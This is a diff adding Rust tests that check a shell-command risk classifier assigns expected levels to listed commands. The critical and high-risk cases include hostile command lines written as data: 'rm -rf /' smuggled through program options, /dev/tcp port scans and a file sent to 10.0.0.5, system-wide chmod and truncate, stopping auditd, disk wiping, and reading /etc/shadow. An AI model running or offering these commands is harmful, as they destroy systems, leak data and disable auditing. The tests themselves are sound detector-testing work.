@@ -270,3 +270,107 @@ fn what_came_over_the_network_is_a_program_whatever_brought_it() {
         ],
     );
 }
+
+#[test]
+fn settings_that_are_commands_are_tried() {
+    all(
+        Risk::Critical,
+        &[
+            "sort --compress-program='rm -rf /' big.txt",
+            "tool --post-hook 'rm -rf ~' build",
+            "awk -v c='rm -rf /' 'BEGIN { system(c) }'",
+            "bash -c \"${@:-rm -rf /}\"",
+            "getopts x: o -x 'rm -rf /'; $OPTARG",
+            "deno run -A - <<< 'Deno.removeSync(\"/\", { recursive: true })'",
+            "p=$(which python || which python3); $p -c 'import os; os.system(\"rm -rf /\")'",
+            "zsh -c '=rm -rf /'",
+        ],
+    );
+    all(
+        Risk::Medium,
+        &[
+            "sort --compress-program='gzip -1' big.txt",
+            "tool --post-hook 'npm run lint' build",
+            "awk -v c='rm -rf /' 'BEGIN { print c }'",
+            "bash -c \"${@:-ls -l}\"",
+            "p=$(which python || which python3); $p -c 'print(1)'",
+        ],
+    );
+}
+
+#[test]
+fn one_port_is_asked_and_many_are_scanned() {
+    all(
+        Risk::High,
+        &[
+            "for p in {1..65535}; do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null && echo $p; done",
+            "for p in {1..20}; do (2>/dev/null echo > /dev/tcp/10.0.0.5/$p) && echo $p; done",
+            "for p in $(cat ports); do (echo > /dev/tcp/10.0.0.5/$p) && echo $p; done",
+            "exec 5<>/dev/tcp/10.0.0.5/80",
+            "cat notes.txt > /dev/tcp/10.0.0.5/80",
+        ],
+    );
+    all(
+        Risk::Low,
+        &[
+            "timeout 1 bash -c '</dev/tcp/db/5432' && echo up",
+            "until echo > /dev/tcp/db/5432; do sleep 1; done",
+            "until (echo > /dev/tcp/$DB_HOST/$DB_PORT) 2>/dev/null; do sleep 1; done",
+        ],
+    );
+}
+
+#[test]
+fn every_file_of_the_system_is_more_than_those_that_were_picked() {
+    all(
+        Risk::Critical,
+        &[
+            "find /etc -type f -exec truncate -s 0 {} +",
+            "find / -type f -exec chmod 644 {} +",
+            "find / -perm -0 -exec chmod 644 {} +",
+            "find / -perm 0644 -exec chmod 777 {} +",
+            "find / -user root -exec chown me {} +",
+            "ls -1 / | sed 's|^|/|' | xargs rm -rf",
+            "rm -rf \"$OLDPWD\"/../../../../../..",
+            "rm -rf /Users/*",
+        ],
+    );
+    all(
+        Risk::Medium,
+        &[
+            "find . -type f -exec truncate -s 0 {} +",
+            "find / -type f -perm 0777 -exec chmod 644 {} +",
+            "find / -user 1005 -exec chown -h me {} +",
+            "rm -rf \"$SRC\"/../build",
+        ],
+    );
+}
+
+#[test]
+fn a_script_of_a_service_is_the_service() {
+    all(Risk::High, &["sudo /etc/init.d/auditd stop", "/etc/rc.d/init.d/rsyslog stop"]);
+    all(Risk::Medium, &["sudo /etc/init.d/nginx restart", "/etc/init.d/auditd status"]);
+}
+
+#[test]
+fn a_table_that_is_also_printed_is_changed() {
+    all(Risk::Critical, &["sgdisk -p --zap-all /dev/sda", "parted -s /dev/sda mklabel gpt print"]);
+    all(Risk::Low, &["sgdisk --backup=table.gpt /dev/sda", "sgdisk -p /dev/sda", "parted -l"]);
+}
+
+#[test]
+fn a_shell_at_the_terminal_is_one_for_whoever_sits_there() {
+    all(
+        Risk::High,
+        &[
+            "nohup /bin/sh -c '/bin/sh </dev/tty >/dev/tty 2>/dev/tty'",
+            "nohup sh -c \"sh <$(tty) >$(tty) 2>$(tty)\"",
+            "printf '%s\\n' 'e /etc/shadow' ,p | ed",
+            "echo '! exec \"/bin/sh\"' | cpan",
+        ],
+    );
+    all(
+        Risk::Low,
+        &["exec < /dev/tty", "read -r answer < /dev/tty", "printf '%s\\n' ,p | ed notes"],
+    );
+}
